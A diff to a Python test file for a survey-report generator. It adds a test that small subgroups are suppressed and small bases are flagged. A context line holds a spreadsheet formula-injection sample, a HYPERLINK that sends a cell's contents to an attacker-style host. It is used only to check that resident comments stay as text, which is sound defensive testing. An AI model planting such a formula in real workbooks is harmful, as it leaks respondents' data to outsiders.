@@ -323,6 +323,22 @@ def test_a_reason_asked_only_of_the_dissatisfied_is_not_printed_in_a_small_langu
     assert "بچوں کے لیے پارک کم ہیں" not in sheet and any("自由意見1件は掲載していません" in c for c in sheet)
 
 
+def test_a_question_asked_of_a_handful_is_not_tabulated_and_a_small_headline_is_marked(session, instrument):
+    """At 12 replies a question asked of the 3 parents printed their answers one by one (100.0 % / 0.0 %),
+    and the headline of n = 12 had no ※ while every group under 30 did."""
+    rows = [{"kurashiyasui": 1 + i % 4, "age_band": 2, "sex": 1, "district": 1, "has_children": 2}
+            for i in range(9)] + [{"kurashiyasui": 1, "age_band": 2, "sex": 1, "district": 1, "has_children": 1,
+                                   "kosodate_needs": [1, 3]}] * 3
+    responses.bulk_complete(session, instrument, rows, channel="paper", source="invited")
+    report = build_report(session, instrument, "none", "ja")
+    needs = next(t for t in report.frequencies if t.question.id == "kosodate_needs")
+    assert needs.suppressed and needs.rows == () and needs.base_n == 3
+    page = html.unescape(render(report, "html").decode("utf-8"))
+    assert "掲載していません：この質問を尋ねた回答者が10人未満" in page
+    assert "12 ※" in _plain(page) or "12※" in _plain(page)
+    assert "※ 回答者が30人未満：解釈に注意" in page
+
+
 def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
     """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
     typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
